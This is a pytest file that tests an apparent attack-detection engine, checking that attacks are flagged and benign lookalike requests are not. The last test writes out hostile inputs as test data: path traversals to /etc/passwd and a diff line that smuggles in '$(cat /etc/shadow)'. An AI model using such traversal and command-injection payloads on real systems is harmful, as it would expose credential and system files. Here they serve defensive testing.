@pytest.mark.parametrize("r", _ATTACKS, ids=_ids(_ATTACKS))
def test_attack_is_caught_by_its_family(engine, r):
    hits = engine.inspect(r)
    assert verdict(hits) == "attack", hits
    assert any(h.type in FAMILIES and h.score >= THRESHOLD for h in hits), hits


@pytest.mark.parametrize("r", _NEAR_MISSES, ids=_ids(_NEAR_MISSES))
def test_benign_near_miss_is_clean(engine, r):
    hits = engine.inspect(r)
    assert not [h for h in hits if h.type in FAMILIES and h.score >= THRESHOLD], hits
    if _label(r) not in _OTHER_FAMILY_FP:
        assert verdict(hits) == "clean", hits


def test_round4_sizes():
    labels = [_label(r) for r in R4_ATTACKS]
    benign = [_label(r) for r in R4_BENIGN + R4_BENIGN_OTHER_FAMILY]
    assert len(set(labels)) == len(labels) >= 25 and len(set(benign)) == len(benign) >= 15
    assert not set(labels) & {_label(r) for r in ALL_ATTACKS + CLASS_ATTACKS + R3_ALL}


@pytest.mark.parametrize("r", R4_BENIGN_OTHER_FAMILY, ids=_ids(R4_BENIGN_OTHER_FAMILY))
def test_round4_folder_names_have_no_path_finding(engine, r):
    hits = engine.inspect(r)
    assert not [h for h in hits if h.type in FAMILIES and h.score >= THRESHOLD], hits


def test_code_host_apis_and_diff_headers_name_repository_files(engine):
    # the GitHub/Gitea contents APIs serve a repository's files by design
    for p in ("/api/v1/repos/acme/api/contents/Dockerfile", "/repos/acme/shop/contents/db/seed.sql"):
        assert verdict(engine.inspect(req(p))) == "clean", p
    assert verdict(engine.inspect(req("/repos/acme/shop/contents/../../../etc/passwd"))) == "attack"
    diff = "--- a/config/nginx.conf\n+++ b/config/nginx.conf\n@@ -1,2 +1,2 @@\n-  expires 1d;\n+  expires 30d;\n"
    assert verdict(engine.inspect(form("patch", diff))) == "clean"
    for bad in ("--- a/../../etc/passwd\n+++ b/../../etc/passwd\n@@ -1 +1 @@\n-a\n+b\n",
                "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+$(cat /etc/shadow)\n"):
        assert verdict(engine.inspect(form("patch", bad))) == "attack", bad
